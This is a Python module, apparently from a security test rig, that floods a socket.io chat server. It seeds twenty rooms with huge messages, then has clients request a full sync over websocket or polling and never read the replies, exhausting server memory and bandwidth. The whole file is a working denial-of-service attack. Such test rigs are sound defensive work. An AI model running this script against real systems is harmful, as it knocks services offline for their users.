"""Requests of 300 bytes, each for a thousand long messages, by clients that do not read the answers."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable

import aiohttp

from rig.attacks.target import CONNECT, EVENT, Client, Target

CLIENTS = 12
ROOMS = [f"r{number:02}" for number in range(20)]
MESSAGES = 50
TEXT = "👋" * 10_000
DATA = "x" * 16_000
HELD_SECONDS = 10.0
SYNC = ["sync", {"rooms": dict.fromkeys(ROOMS, 0), "limit": MESSAGES, "join": True}]


async def prepare(target: Target) -> None:
    """Twenty rooms of fifty long messages each; the attacker is a member of all."""
    headers = {"Authorization": f"Bearer {target.api_key}"}
    async with aiohttp.ClientSession(target.url, headers=headers) as session:
        for room in ROOMS:
            members = {"members": [{"id": "attacker"}]}
            async with session.post(f"/api/rooms/{room}/members", json=members) as answer:
                answer.raise_for_status()
            for _ in range(MESSAGES):
                message = {"room": room, "from": {"id": "somebody"}, "text": TEXT, "data": DATA}
                async with session.post("/api/messages", json=message) as answer:
                    answer.raise_for_status()


async def over_websocket(target: Target) -> None:
    async with aiohttp.ClientSession() as session:
        await _together(lambda: _websocket(target, session))
        await asyncio.sleep(HELD_SECONDS)


async def on_one_websocket(target: Target) -> None:
    async with aiohttp.ClientSession() as session:
        client = await target.client(session, "attacker")
        await _ask(client, CLIENTS)
        await asyncio.sleep(HELD_SECONDS)


async def over_polling(target: Target) -> None:
    async with aiohttp.ClientSession(target.url) as session:
        await _together(lambda: _polling(target, session))
        await asyncio.sleep(HELD_SECONDS)


async def _together(one: Callable[[], Awaitable[None]]) -> None:
    await asyncio.gather(*(one() for _ in range(CLIENTS)))


async def _websocket(target: Target, session: aiohttp.ClientSession) -> None:
    await _ask(await target.client(session, "attacker"), 1)


async def _ask(client: Client, times: int) -> None:
    for number in range(times):
        await client.send(EVENT, SYNC, number)


async def _polling(target: Target, session: aiohttp.ClientSession) -> None:
    """Joins, asks, and never polls again."""
    path = "/socket.io/?EIO=4&transport=polling"
    async with session.get(path) as answer:
        path += f"&sid={json.loads((await answer.text())[1:])['sid']}"
    async with session.post(path, data=f"4{CONNECT}/chat,{json.dumps({'token': target.token('attacker')})}") as answer:
        answer.raise_for_status()
    async with session.get(path) as answer:
        answer.raise_for_status()
    async with session.post(path, data=f"4{EVENT}/chat,1{json.dumps(SYNC)}") as answer:
        answer.raise_for_status()
